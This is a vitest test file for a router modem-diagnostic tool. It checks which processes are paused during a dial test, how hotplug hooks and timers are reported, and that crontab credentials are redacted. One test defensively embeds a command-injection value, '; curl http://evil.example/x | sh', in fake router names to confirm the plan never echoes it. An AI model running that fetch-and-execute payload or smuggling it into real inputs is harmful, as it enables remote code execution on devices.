import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { RouterConnection } from '../../../src/collect/router/router-connection.ts';
import { type Plan, planFor } from '../../../src/dial/plan.ts';
import { planText } from '../../../src/dial/plan-text.ts';
import { type Survey, surveyOf } from '../../../src/dial/router/survey.ts';
import { runPlan } from '../../../src/dial/run.ts';
import { localConnection } from '../../collect/router/local-connection.ts';
import { processesIn, reroutedConnection, undoFolderIn } from '../../collect/router/rerouted-connection.ts';
import { programPath } from '../../servers/programs.ts';
import { configured, diagnosed, ports, wwan } from '../modems.ts';

const page = { unicode: true, mayCut: true };

const interfaces = `interfaces\t${JSON.stringify({
  interface: [{ interface: 'wan', up: false, autostart: true, proto: '3g' }],
})}`;

function surveyed(...rows: readonly string[]): Survey {
  return surveyOf([interfaces, 'has\tifdown', 'has\tifup', ...rows, 'over'].join('\n'));
}

function planned(survey: Survey): Plan {
  const plan = planFor(
    diagnosed(
      ports('1-1', ['12d1:1506', 0]),
      configured('wan', { proto: '3g', device: '/dev/ttyUSB0', apn: 'internet' }),
    ),
    survey,
    { interface: 'wan', ownEnd: localConnection(['/bin/sh']).ownEnd },
  );
  if (plan === null) throw new Error('There is nothing to test.');
  return plan;
}

describe('an interface of MBIM with a PIN, which its handler sends with each start', () => {
  test.each([
    ['mbim', 'cdc_mbim', '1234', true],
    ['wwan', 'cdc_mbim', '1234', true],
    // Nobody knows when this one sends it.
    ['mbimp', 'cdc_mbim', '1234', true],
    ['mbim', 'cdc_mbim', '', false],
    ['wwan', 'qmi_wwan', '1234', false],
    ['qmi', 'qmi_wwan', '1234', false],
  ] as const)(
    '%s with %s, PIN %j: is neither taken down nor dialled: %s',
    (proto, driver, pincode, isLeft) => {
      const plan = planFor(
        diagnosed(
          wwan('1-1', 0, driver),
          configured('wan', {
            proto,
            device: '/dev/cdc-wdm0',
            apn: 'internet',
            ...(pincode === '' ? {} : { pincode }),
          }),
        ),
        surveyed(`has\t${driver === 'cdc_mbim' ? 'umbim' : 'uqmi'}`),
        { interface: 'wan', ownEnd: localConnection(['/bin/sh']).ownEnd },
      );
      const left = plan?.leftOut.filter(({ why }) => /sends? that with each start/.test(why)) ?? [];
      expect(left.map(({ kind }) => kind.id)).toEqual(isLeft ? ['pause', 'dial'] : []);
      expect(plan?.steps.some(({ test: { id } }) => id === 'dial')).toBe(!isLeft);
    },
  );
});

describe('the plan', () => {
  const crond = 'crond\t77\t1077\t/usr/sbin/crond -f -c /etc/crontabs -l 5 ';
  const line = '*/5 * * * * /root/check.sh';

  test('says whose line is the reason to pause crond, and what becomes of what was due', () => {
    const text = planText(
      planned(
        surveyed(
          'watchdog\t123\t1123\t/bin/sh /usr/bin/watchcat.sh ping_reboot ',
          crond,
          `cron\t/etc/crontabs/root\t${line}\t/root/check.sh`,
          'cron\t/etc/cron.d/modem\t0 4 * * * root reboot\treboot',
          'job\t90\t1090\t/bin/sh /root/check.sh',
        ),
      ),
      page,
    );
    expect(text).toContain(
      `      kill -STOP 123
      kill -STOP 77
      kill -STOP of what crond has running of this
      ifdown wan
      → pauses /bin/sh /usr/bin/watchcat.sh ping_reboot and lets it go on afterwards
      → pauses /usr/sbin/crond -f -c /etc/crontabs -l 5 and what it has running of this, because of “${line}” in /etc/crontabs/root, and of 1 more; lets it go on afterwards: then it runs once what was due meanwhile
`,
    );
  });

  test('is the same whatever cron has running just now', () => {
    const cron = `cron\t/etc/crontabs/root\t${line}\t/root/check.sh`;
    const first = planned(surveyed(crond, cron, 'job\t90\t1090\t/bin/sh /root/check.sh'));
    expect(planText(planned(surveyed(crond, cron)), page)).toBe(planText(first, page));
  });

  test.each([
    ['crond has nothing to do with it', [crond]],
    ['crond does not run', [`cron\t/etc/crontabs/root\t${line}\t/root/check.sh`]],
  ])('pauses nothing where %s', (_, rows) => {
    expect(planText(planned(surveyed(...rows)), page)).not.toMatch(/STOP|pauses/);
  });

  test('tells what cannot be stopped', () => {
    const text = planText(
      planned(
        surveyed(
          'hotplug\t/etc/hotplug.d/iface/99-modem',
          'hotplug\t/etc/hotplug.d/usb/50-modem\t/root/reset.sh',
        ),
      ),
      page,
    );
    expect(
      text,
    ).toContain(`May act on the modem or an interface while the test runs, and cannot be stopped without writing to the flash:
  - /etc/hotplug.d/iface/99-modem, when an interface goes up or down
  - /etc/hotplug.d/usb/50-modem, when a device comes or goes, by /root/reset.sh
`);
    expect(planText(planned(surveyed()), page)).not.toContain('cannot be stopped');
  });

  test('tells which timers the owner may stop', () => {
    const text = planText(
      planned(surveyed('timer\tmm-restart.timer', 'timer\tmodem-check.timer\t/usr/local/bin/modem-check')),
      page,
    );
    expect(text).toContain(`  - on the router: systemctl stop mm-restart.timer
  - on the router: systemctl stop modem-check.timer, which runs /usr/local/bin/modem-check
`);
  });

  test('advises nothing that a hostile router has put behind a name', () => {
    const evil = '; curl http://evil.example/x | sh';
    const text = planText(
      planned(
        surveyed(
          `timer\tx.timer${evil}\t-`,
          'timer\t--now.timer\t-',
          `timer\tmodem-check.timer\t/root/check${evil}`,
          `hotplug\t/etc/hotplug.d/usb/50-modem${evil}`,
          `hotplug\t/etc/hotplug.d/iface/99-modem\t/root/reset.sh${evil}`,
          crond,
          `cron\t/etc/cron.d/modem${evil}\t0 4 * * * root reboot\treboot`,
          `session\t192.0.2.7${evil}\t192.168.1.1`,
        ),
      ),
      { ...page, mayCut: false },
    );
    expect(text).not.toContain('evil');
    expect(text).toContain('  - on the router: systemctl stop modem-check.timer\n');
    expect(text).toContain('  - /etc/hotplug.d/iface/99-modem, when an interface goes up or down\n');
    // What acts is told all the same.
    expect(text).toContain('  - a file whose name is not told, when a device comes or goes\n');
    expect(text).toContain('because of “0 4 * * * root reboot” in a file whose name is not told;');
  });

  test('shows no login that stands in a crontab or behind a program', () => {
    const login = `*/5 * * * * curl -u joe:sesame77 http://x/; ifup wan`;
    const text = planText(
      planned(
        surveyed(
          'watchdog\t123\t1123\t/bin/sh /usr/bin/watchcat.sh --password sesame88 wan',
          // Cut in the middle of the secret, nobody could tell any more that it is one.
          'watchdog\t124\t1124\t/bin/sh /usr/bin/watchcat.sh http://joe:sesame99@192.168.8.1/',
          crond,
          `cron\t/etc/crontabs/root\t${login}\tifup wan`,
        ),
      ),
      page,
    );
    expect(text).toContain('watchcat.sh --password <hid');
    expect(text).toContain('“*/5 * * * * curl -u <hidden>:<hidden> http://x/; ifup wan”');
    expect(text).not.toMatch(/joe|sesame/);
  });
});

const shells = [
  ['dash', ['dash']],
  ['busybox ash', ['busybox', 'sh']],
] as const satisfies readonly (readonly [string, readonly [string, ...string[]]])[];

describe.each(shells.filter(([, [program]]) => programPath(program) !== undefined))(
  'what is paused, under %s',
  (_, words) => {
    let folder: string;
    let running: ChildProcess[];

    beforeEach(() => {
      folder = mkdtempSync(join(tmpdir(), 'hwdiag-pause-'));
      running = [];
      // When the interface is taken down, and when it is started: how the processes stand.
      program('ifdown', `echo "ifdown $(states)" >>${folder}/log`);
      program('ifup', `echo "ifup $(states)" >>${folder}/log`);
      program('ifstatus', `echo '{ "up": false }'`);
      mkdirSync(join(folder, 'proc/1'), { recursive: true });
      writeFileSync(join(folder, 'proc/1/cmdline'), '/sbin/procd\0');
    });

    afterEach(async () => {
      for (const child of running) {
        child.kill('SIGKILL');
        if (child.exitCode === null && child.signalCode === null) await once(child, 'exit');
      }
      rmSync(folder, { recursive: true, force: true });
    });

    function program(name: string, script: string): void {
      const states = `states() { for pid in $(cat ${folder}/pids); do sed 's/^.*) //' /proc/$pid/stat | cut -c 1; done | tr -d '\\n'; }`;
      writeFileSync(join(folder, name), `#!/bin/sh\n${states}\n${script}\n`);
      chmodSync(join(folder, name), 0o755);
    }

    /** What it stands for is said by its row alone: another test of this machine is not to take it for such a program. */
    async function started(): Promise<number> {
      const child = spawn('sleep', ['1000'], { stdio: 'ignore' });
      running.push(child);
      await once(child, 'spawn');
      if (child.pid === undefined) throw new Error('It did not start.');
      writeFileSync(join(folder, 'pids'), running.map(({ pid }) => `${pid}\n`).join(''));
      return child.pid;
    }

    function stat(pid: number): readonly string[] {
      return readFileSync(`/proc/${pid}/stat`, 'utf8')
        .replace(/^.*\) /s, '')
        .split(' ');
    }

    function row(kind: string, pid: number, name: string, startedAt = stat(pid)[19]): string {
      return `${kind}\t${pid}\t${startedAt}\t${name}`;
    }

    /** A shell that has the programs of the folder: busybox would take its own. */
    function connection(): RouterConnection {
      return reroutedConnection(
        localConnection(words),
        { ...undoFolderIn(folder), ...processesIn(folder) },
        (script) => script.replaceAll(/\bif(?:up|down|status) wan/g, (call) => join(folder, call)),
      );
    }

    /** @returns how they stood at each step, and at the end */
    async function paused(...rows: readonly string[]) {
      const survey = surveyed('cron\t/etc/crontabs/root\t* * * * * ifup wan\tifup wan', ...rows);
      const plan = planned(survey);
      const { proof } = await runPlan(
        { ...plan, steps: plan.steps.filter(({ test }) => test.id === 'pause') },
        {
          connection: connection(),
          survey,
          host: null,
          signal: new AbortController().signal,
          allowed: new Set(['reads', 'dials']),
          mayCut: true,
        },
      );
      return {
        log: readFileSync(join(folder, 'log'), 'utf8').trim().split(/ *\n/),
        after: running.map(({ pid }) => stat(pid ?? 0)[0]),
        changes: proof.changes.map(({ what, state }) => [what, state]),
      };
    }

    test('stands still from before the interface is taken down until after it is started', async () => {
      const watchcat = await started();
      const crond = await started();
      const job = await started();
      const { log, after, changes } = await paused(
        row('job', job, '/bin/sh /root/check.sh'),
        row('crond', crond, 'busybox crond -f'),
        row('watchdog', watchcat, '/bin/sh /usr/bin/watchcat.sh'),
      );
      expect(log).toEqual(['ifdown TTT', 'ifup TTT']);
      expect(after).not.toContain('T');
      expect(changes).toEqual([
        ['watchcat.sh was paused', 'put-back'],
        ['crond was paused', 'put-back'],
        ['check.sh was paused', 'put-back'],
        ['the interface wan was taken down', 'put-back'],
      ]);
    });

    test('is told without what somebody wrote into a crontab', async () => {
      const jobs = [
        ['sh -c PASS=sesame /root/check.sh; reboot', 'check.sh'],
        ["/bin/sh -c PASS='open sesame' /root/check.sh; ifup wan", 'a job of crond'],
        ["/bin/sh -c PASS='open /sesame' /root/check.sh; ifup wan", 'a job of crond'],
        ['/bin/sh -c curl -u joe:sesame http://example.com || ifup wan', 'a job of crond'],
        ['/bin/sh /root/check.sh --password sesame', 'check.sh'],
      ] as const;
      const rows = [row('crond', await started(), 'crond')];
      for (const [words] of jobs) rows.push(row('job', await started(), words));
      const { changes } = await paused(...rows);
      expect(changes.slice(1, -1)).toEqual(jobs.map(([, name]) => [`${name} was paused`, 'put-back']));
    });

    test('is each crond that runs', async () => {
      const first = await started();
      const second = await started();
      const { log, after } = await paused(row('crond', first, 'crond'), row('crond', second, 'crond'));
      expect(log).toEqual(['ifdown TT', 'ifup TT']);
      expect(after).not.toContain('T');
    });

    test('is no other process that has its number since', async () => {
      const crond = await started();
      const other = await started();
      process.kill(other, 'SIGSTOP');
      const { log, after } = await paused(
        row('crond', crond, 'crond', '1'),
        row('watchdog', other, 'watchcat', '1'),
      );
      expect(log[0]).toMatch(/^ifdown [SR]T$/);
      // Nor is it let go on.
      expect(after[1]).toBe('T');
    });

    test('is nothing where it has ended meanwhile', async () => {
      const crond = await started();
      const line = row('crond', crond, 'crond');
      running[0]?.kill('SIGKILL');
      await once(running[0] ?? process, 'exit');
      running = [];
      writeFileSync(join(folder, 'pids'), '');
      expect(await paused(line)).toMatchObject({
        log: ['ifdown', 'ifup'],
        changes: [
          ['crond was paused', 'put-back'],
          ['the interface wan was taken down', 'put-back'],
        ],
      });
    });
  },
);
